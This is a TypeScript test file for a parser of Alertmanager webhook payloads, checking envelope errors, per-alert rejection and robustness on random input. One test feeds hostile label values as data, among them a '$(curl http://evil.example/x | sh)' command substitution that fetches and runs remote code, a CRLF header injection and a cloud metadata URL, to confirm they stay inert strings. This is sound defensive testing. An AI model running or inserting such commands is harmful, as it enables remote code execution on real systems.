// Validation of Alertmanager webhook payloads: a real payload reads, a bad envelope fails whole with
// the field named, a bad alert is set aside on its own, and any input at all gets a clear answer.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseWebhook, WEBHOOK_LIMITS } from './alertmanager.js';

/** Shaped like what Alertmanager 0.27 posts (notify/webhook). */
function payload(alerts: unknown[], extra: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    receiver: 'slactl',
    status: 'firing',
    alerts,
    groupLabels: { alertname: 'VectorRecallBelowTarget', sla: 'search-rag' },
    commonLabels: { alertname: 'VectorRecallBelowTarget', sla: 'search-rag' },
    commonAnnotations: {},
    externalURL: 'http://alertmanager:9093',
    version: '4',
    groupKey: '{}:{alertname="VectorRecallBelowTarget", sla="search-rag"}',
    truncatedAlerts: 0,
    ...extra,
  };
}

const alert = (extra: Record<string, unknown> = {}): Record<string, unknown> => ({
  status: 'firing',
  labels: {
    alertname: 'VectorRecallBelowTarget',
    sla: 'search-rag',
    index: 'products-v3',
    severity: 'critical',
  },
  annotations: {
    summary: 'recall@10 of products-v3 is 0.71',
    runbook_url: 'https://runbooks/vector-index-degradation',
  },
  startsAt: '2026-11-22T06:00:00.123456789Z',
  endsAt: '0001-01-01T00:00:00Z',
  generatorURL: 'http://prometheus:9090/graph?g0.expr=…',
  fingerprint: '8f1a2b3c4d5e6f70',
  ...extra,
});

describe('parseWebhook', () => {
  it('reads a version 4 payload into inbound alerts', () => {
    const result = parseWebhook(
      payload([
        alert(),
        alert({ status: 'resolved', endsAt: '2026-11-22T06:10:00+01:00', fingerprint: 'ABCDEF0123456789' }),
      ]),
    );
    expect(result).toEqual({
      ok: true,
      meta: {
        groupKey: '{}:{alertname="VectorRecallBelowTarget", sla="search-rag"}',
        receiver: 'slactl',
        truncatedAlerts: 0,
      },
      alerts: [
        {
          index: 0,
          alert: {
            status: 'firing',
            labels: {
              alertname: 'VectorRecallBelowTarget',
              sla: 'search-rag',
              index: 'products-v3',
              severity: 'critical',
            },
            annotations: {
              summary: 'recall@10 of products-v3 is 0.71',
              runbook_url: 'https://runbooks/vector-index-degradation',
            },
            startsAt: Date.UTC(2026, 10, 22, 6, 0, 0, 123),
            sourceFingerprint: '8f1a2b3c4d5e6f70',
          },
        },
        {
          index: 1,
          alert: expect.objectContaining({
            status: 'resolved',
            endsAt: Date.UTC(2026, 10, 22, 5, 10, 0),
            sourceFingerprint: 'abcdef0123456789',
          }) as unknown,
        },
      ],
      rejected: [],
    });
  });

  it.each([
    [
      'not an object',
      [],
      [{ field: '', message: 'expected a JSON object (an Alertmanager webhook payload)' }],
    ],
    [
      'another version',
      payload([], { version: '3' }),
      [{ field: 'version', message: 'expected "4" (the webhook payload version this receiver reads)' }],
    ],
    ['no alerts', { version: '4' }, [{ field: 'alerts', message: 'missing' }]],
    [
      'alerts not a list',
      payload([], { alerts: {} }),
      [{ field: 'alerts', message: 'expected a list of alerts' }],
    ],
    [
      'too many alerts',
      payload(Array.from({ length: WEBHOOK_LIMITS.maxAlerts + 1 }, () => alert())),
      [{ field: 'alerts', message: 'more than 1000 alerts in one notification' }],
    ],
  ])('refuses a payload that is %s, naming the field', (_name, body, problems) => {
    expect(parseWebhook(body)).toEqual({ ok: false, problems });
  });

  it.each([
    [
      'a bad status',
      { status: 'pending' },
      'alerts[0].status',
      'expected "firing" or "resolved", got "pending"',
    ],
    ['no labels', { labels: undefined }, 'alerts[0].labels', 'missing: every alert has labels'],
    [
      'no alertname',
      { labels: { sla: 'x' } },
      'alerts[0].labels.alertname',
      'missing: every alert has an alertname label',
    ],
    [
      'a bad alertname',
      { labels: { alertname: 'a b' } },
      'alerts[0].labels.alertname',
      '"a b" is not a valid alert name',
    ],
    [
      'a bad label name',
      { labels: { alertname: 'A', 'x-y': '1' } },
      'alerts[0].labels["x-y"]',
      '"x-y" is not a valid label name',
    ],
    [
      'a number label',
      { labels: { alertname: 'A', index: 7 } },
      'alerts[0].labels.index',
      'expected a string, got number',
    ],
    [
      'a very long label',
      { labels: { alertname: 'A', index: 'x'.repeat(5000) } },
      'alerts[0].labels.index',
      'value is 5000 characters, more than 1024',
    ],
    [
      'a bad startsAt',
      { startsAt: 'yesterday' },
      'alerts[0].startsAt',
      'expected an RFC 3339 time, got "yesterday"',
    ],
    [
      'the zero startsAt',
      { startsAt: '0001-01-01T00:00:00Z' },
      'alerts[0].startsAt',
      'the zero time is not a start time',
    ],
    [
      'a bad fingerprint',
      { fingerprint: '../x' },
      'alerts[0].fingerprint',
      'expected a hex fingerprint, got "../x"',
    ],
  ])('sets aside an alert with %s and keeps the others', (_name, change, field, message) => {
    const result = parseWebhook(payload([alert(change), alert({ labels: { alertname: 'Good' } })]));
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.rejected).toEqual([{ index: 0, problems: [{ field, message }] }]);
    expect(result.alerts.map((a) => [a.index, a.alert.labels.alertname])).toEqual([[1, 'Good']]);
  });

  it('keeps hostile label values as data: CRLF, shell, templates and URLs are just characters', () => {
    const labels = {
      alertname: 'VectorRecallBelowTarget',
      index: 'x\r\nX-Injected: 1',
      service: '$(curl http://evil.example/x | sh)',
      summary: '{{ .CommonLabels }}',
      target: 'http://169.254.169.254/latest/meta-data',
    };
    const result = parseWebhook(payload([alert({ labels })]));
    expect(result.ok && result.alerts[0]!.alert.labels).toEqual(labels);
  });

  it('answers any input without throwing', () => {
    const anyAlert = fc.record(
      {
        status: fc.oneof(fc.constantFrom('firing', 'resolved'), fc.string()),
        labels: fc.oneof(fc.dictionary(fc.string(), fc.oneof(fc.string(), fc.integer())), fc.anything()),
        annotations: fc.anything(),
        startsAt: fc.oneof(
          fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
          fc.string(),
          fc.anything(),
        ),
        endsAt: fc.anything(),
        fingerprint: fc.oneof(fc.stringMatching(/^[0-9a-f]{1,16}$/), fc.anything()),
      },
      { requiredKeys: [] },
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.anything(),
          fc.array(anyAlert).map((alerts) => payload(alerts)),
        ),
        (body) => {
          const result = parseWebhook(body);
          if (result.ok) {
            for (const a of result.alerts) {
              expect(typeof a.alert.labels.alertname).toBe('string');
              expect(Number.isFinite(a.alert.startsAt)).toBe(true);
            }
            for (const r of result.rejected) expect(r.problems.length).toBeGreaterThan(0);
          } else {
            expect(result.problems.length).toBeGreaterThan(0);
          }
        },
      ),
      { numRuns: 500 },
    );
  });
});
